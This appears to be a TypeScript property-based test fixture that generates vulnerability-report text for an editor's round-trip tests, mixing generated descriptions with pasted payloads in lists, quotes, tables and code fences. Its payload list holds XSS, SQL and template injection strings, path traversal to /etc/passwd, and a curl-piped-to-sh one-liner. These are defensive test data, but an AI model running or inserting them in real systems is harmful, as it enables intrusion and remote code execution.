/**
 * Realistic report text for the editor's round trip: generated descriptions with what
 * researchers paste verbatim around them — payloads with `<`, `>`, `[`, `]`, `|`, backslashes,
 * template syntax, SQL, shell one-liners, JSON, redaction marks — in running text, lists, quotes,
 * tables and code fences.
 */
import fc from 'fast-check';
import { description } from './descriptions';

export const PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '"><svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  "' OR 1=1--",
  "admin'-- -",
  '1; DROP TABLE users--',
  '$(id)',
  '`id`',
  'curl -s https://x.com/a?b=1 | sh',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\Users\\me\\AppData',
  '\\\\server\\share',
  '{"role":"admin","ids":[1,2]}',
  '[REDACTED:aws-access-key]',
  '[REDACTED:github-pat]',
  'a|b|c',
  '<!-- x -->',
  '%3Cscript%3E',
  'javascript:alert(1)',
  'https://x.com/?q=<b>&r=[1]',
  'security@example.com',
  '*/alert(1)/*',
  '\\x3cscript\\x3e',
  'a_b_c',
  '~~x~~',
] as const;

const payload = fc.constantFrom(...PAYLOADS);
const word = fc.constantFrom(
  'Send',
  'the',
  'request',
  'with',
  'as',
  'name',
  'then',
  'see',
  'body:',
);

const payloadLine = fc
  .array(fc.oneof({ weight: 2, arbitrary: word }, { weight: 1, arbitrary: payload }), {
    minLength: 1,
    maxLength: 7,
  })
  .map((parts) => parts.join(' '));

const payloadBlock = fc.oneof(
  { weight: 4, arbitrary: payloadLine },
  { weight: 1, arbitrary: payloadLine.map((l) => `- ${l}`) },
  { weight: 1, arbitrary: payloadLine.map((l) => `> ${l}`) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('', 'http', 'sql', 'sh', 'json'),
        fc.array(payload, { minLength: 1, maxLength: 3 }),
      )
      .map(([lang, lines]) => `\`\`\`${lang}\n${lines.join('\n')}\n\`\`\``),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.tuple(payload, payload), { minLength: 1, maxLength: 3 })
      .map((rows) =>
        [
          '| Input | Output |',
          '| --- | --- |',
          ...rows.map((r) => `| ${r.map((c) => c.replace(/\|/g, '\\|')).join(' | ')} |`),
        ].join('\n'),
      ),
  },
);

/** A generated description with pasted payload blocks after it. */
export const reportText = fc
  .tuple(description, fc.array(payloadBlock, { minLength: 1, maxLength: 4 }))
  .map(([text, blocks]) => `${text.trimEnd()}\n\n${blocks.join('\n\n')}\n`.replace(/^\n+/, ''));
